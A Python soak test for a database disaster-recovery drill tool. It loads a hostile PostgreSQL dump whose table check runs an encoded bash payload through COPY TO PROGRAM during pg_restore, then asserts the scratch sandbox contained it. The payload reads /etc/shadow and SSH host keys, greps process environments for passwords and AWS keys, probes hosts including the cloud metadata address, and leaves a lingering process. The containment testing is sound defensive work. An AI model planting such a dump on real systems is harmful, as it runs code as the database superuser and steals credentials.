"""A dump that is a program: what it reaches from a scratch room, and what is left of it.

Whoever owns one database can have a check of a table run as superuser when its dump is loaded (PostgreSQL
says so itself): here it tries what it likes as the account ``postgres``, and leaves a process behind.
"""

import base64
import subprocess
import threading
import time
from pathlib import Path

from tests.soak.test_scratch_databases import HOST, WHERE, production, said
from tests.soak.test_scratch_drill import begin, on, outcomes, record_of

__all__ = ["production"]

STAYS = "98765.4321"
ACT = f"""exec > /var/lib/postgresql/report 2>&1
id -un
for file in /etc/shadow /etc/ssh/ssh_host_ed25519_key /etc/drplan/*; do
  head -c1 $file && echo "READ $file"
done
for each in /proc/[0-9]*/environ; do
  tr '\\0' '\\n' < $each | grep -E 'RESTIC|PASSWORD|SECRET|AWS_' && echo "READ $each"
done
sudo -n true && echo BECAME root
mount -t tmpfs none /mnt && echo MOUNTED
mknod /var/lib/postgresql/disk b 254 0 && echo MADE a disk
for at in 198.18.44.1 198.18.44.5 169.254.169.254 192.0.2.1; do
  for port in 22 80 443 2024 5432 8000; do
    timeout 1 bash -c "echo > /dev/tcp/$at/$port" && echo "REACHED $at:$port"
  done
done
cat /proc/self/cgroup
setsid sleep {STAYS} < /dev/null > /dev/null 2>&1 &
echo ACTED
"""
TRAP = f"""
create function act() returns boolean language plpgsql as $$begin
 if exists (select from pg_stat_activity where application_name = 'pg_restore') then
  execute 'copy (select 1) to program ''echo {base64.b64encode(ACT.encode()).decode()} | base64 -d | bash''';
 end if; return true; end$$;
create table trap (id int check (act())); insert into trap values (1);
"""


def sleeping():
    return subprocess.run(["pgrep", "-f", f"sleep {STAYS}"], capture_output=True, check=False).stdout


def test_a_hostile_dump_reaches_its_rooms_repositories_and_nothing_else_and_ends_with_it(
    production, tmp_path
):
    sql = base64.b64encode(TRAP.encode()).decode()
    psql = "runuser -u postgres -- psql -q -v ON_ERROR_STOP=1 grades"
    assert on(production, HOST, f"cd / && echo {sql} | base64 -d | {psql}").returncode == 0
    said(production, "backup", "run", *WHERE)
    keygen = ("evidence", "keygen", "--inventory", "tests/cases/databases", "--runbooks", str(tmp_path))
    said(production, *keygen)
    drill = begin(production, tmp_path, *WHERE)
    heard = threading.Thread(target=drill.communicate, daemon=True)
    heard.start()
    reports, limits, stayed = [], [], b""
    while heard.is_alive():
        for path in production.glob(f"rooms/*/lab/hosts/{HOST}/upper/var/lib/postgresql/report"):
            text = path.read_text()
            if "ACTED" in text:
                reports.append(text)
                stayed = stayed or sleeping()
        limits += [p.read_text() for p in _limits(production)]
        time.sleep(0.2)
    assert reports[-1].startswith("postgres\n")
    did = {line for line in reports[-1].splitlines() if line.split(" ")[0].isupper()}
    assert did == {"REACHED 198.18.44.5:8000", "ACTED"}
    assert stayed
    assert sleeping() == b""
    assert limits
    assert all(int(each) < 1 << 50 for each in limits)
    # It did as its owner said in production too: that is a lie in good form, and the rows are as kept.
    assert outcomes(record_of(tmp_path)) == dict.fromkeys(("meals", "grades", "people"), "pass")
    assert not (production / "rooms").exists()


def _limits(state):
    names = [path.name for path in state.glob("rooms/*")]
    found = (
        Path(root) / f"drplan.{name}-lab" / file
        for name in names
        for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory")
        for file in ("memory.max", "memory.limit_in_bytes")
    )
    return [path for path in found if path.exists()]
